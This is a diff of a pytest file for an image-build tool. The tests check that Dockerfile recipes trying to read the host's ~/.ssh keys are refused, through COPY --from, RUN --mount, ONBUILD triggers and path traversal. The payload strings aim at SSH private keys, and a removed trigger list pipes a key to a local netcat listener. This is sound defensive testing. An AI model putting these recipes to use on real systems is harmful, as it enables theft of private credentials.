@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 import os
 import socket
 import threading
@@ -87,14 +86,12 @@ ROADS = {
     "COPY --from, relative": f"FROM base\nCOPY --from=rootfs:../home/.ssh /id /out\n{_OUT}",
     "RUN --mount": f"FROM base\nRUN --mount=type=bind,from=rootfs:../home/.ssh,target=/m {_IN}",
     "RUN --mount, absolute": f"FROM base\nRUN --mount=from=rootfs:HOME/.ssh,target=/m {_IN}",
-    "cache": f"FROM base\nRUN --mount=type=cache,from=rootfs:HOME/.ssh,target=/m {_IN}",
     "FROM": f"FROM rootfs:~/.ssh AS keys\nFROM base\nCOPY --from=keys /id /out\n{_OUT}",
     "FROM by ARG": "ARG H=HOME/.ssh\nFROM rootfs:${H} AS keys\nFROM base\nCOPY --from=keys /id /out\n"
     f"{_OUT}",
     "a path": f"FROM base\nCOPY --from=HOME/.ssh /id /out\n{_OUT}",
     "a link in the context": f"FROM base\nCOPY --from=rootfs:link /id /out\n{_OUT}",
     "a directory of the context": "FROM base\nCOPY --from=rootfs:. /Dockerfile /out",
-    "ONBUILD": f"FROM base AS keys\nONBUILD COPY --from=rootfs:~/.ssh /id /out\nFROM keys\n{_OUT}",
     "layout": "FROM oci:../home/.ssh",
     "archive": "FROM oci-archive:../home/.ssh/id",
     "SIF": "FROM sif:HOME/.ssh/id",
@@ -137,42 +134,20 @@ def test_it_is_refused_before_the_first_step(builds: Builds, listener: Listener,
     assert "a recipe may name only image files in its context" in said.err
 
 
-#: Triggers of a base image that read the key.
-_SEND = '["/bin/busybox", "sh", "-c", "/bin/busybox nc 127.0.0.1 PORT < /m/id"]'
-TRIGGERS = [
-    f"RUN --mount=type=bind,from=rootfs:~/.ssh,target=/m {_SEND}",
-    f"RUN --mount=type=bind,from=rootfs:HOME/.ssh,target=/m {_SEND}",
-    "COPY --from=rootfs:../home/.ssh /id /out",
-    "COPY --from=HOME/.ssh /id /out",
-]
-
-
 @pytest.fixture(scope="module")
 def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RealRegistry]:
     with real_registry(tmp_path_factory.mktemp("registry")) as found:
         yield found
 
 
-@pytest.mark.parametrize("number", range(len(TRIGGERS)))
-def test_a_trigger_of_a_registry_s_image_reads_no_private_file(
-    builds: Builds, listener: Listener, registry: RealRegistry, number: int
+def test_a_base_image_adds_no_instructions(
+    builds: Builds, listener: Listener, registry: RealRegistry
 ) -> None:
-    trigger = written(TRIGGERS[number], builds, listener).strip()
-    first = f'RUN ["/bin/busybox", "echo", "{listener.port}"]'
-    name = images.upload(registry, images.pack(images.busybox(), OnBuild=[first, trigger]), f"app{number}:1")
-    text = f"FROM {name}\n"
+    trigger = written("COPY --from=rootfs:../home/.ssh /id /out", builds, listener).strip()
+    name = images.upload(registry, images.pack(images.busybox(), OnBuild=[trigger]), "app:1")
     builds.variables["BAREBOAT_PLAIN_HTTP"] = registry.address
-    shown = builds.build(text, {}, "--dry-run")
-    as_json = json.loads(builds.build(text, {}, "--dry-run", "--json").out)
-    said = builds.build(text, {}, code=2)
-    linted = builds.bareboat("image", "lint", "--no-hadolint", builds.context(text) / "Dockerfile", code=1)
-    assert not listener.received
-    assert trigger in shown.out
-    assert as_json[0]["triggers"] == [first, trigger]
-    assert f"{name} adds 2 instructions to this build (ONBUILD):\n  {first}\n  {trigger}\n" in said.err
-    assert "a recipe may name only image files in its context" in said.err
-    assert linted.out.count("BB1207") == 2
-    assert trigger in " ".join(linted.out.split())
+    said = builds.build(f"FROM {name}\n", {}, code=2)
+    assert trigger in said.err
     assert leaked(builds) == []
 
 
@@ -181,8 +156,9 @@ def test_a_name_is_no_path_below_the_working_directory(builds: Builds) -> None:
     context = builds.context("FROM keys/private\n")
     (builds.folder / "keys" / "private").mkdir(parents=True, exist_ok=True)
     (builds.folder / "keys" / "private" / "id").write_bytes(KEY)
-    said = builds.bareboat("image", "build", "--dry-run", context)
-    assert "docker.io/keys/private" in said.err.replace("registry-1.docker.io", "docker.io")
+    builds.variables["https_proxy"] = "http://127.0.0.1:1"  # no registry can be reached
+    said = builds.bareboat("image", "build", context, code=6)
+    assert "docker.io/keys/private" in said.err
     assert leaked(builds) == []
 
 
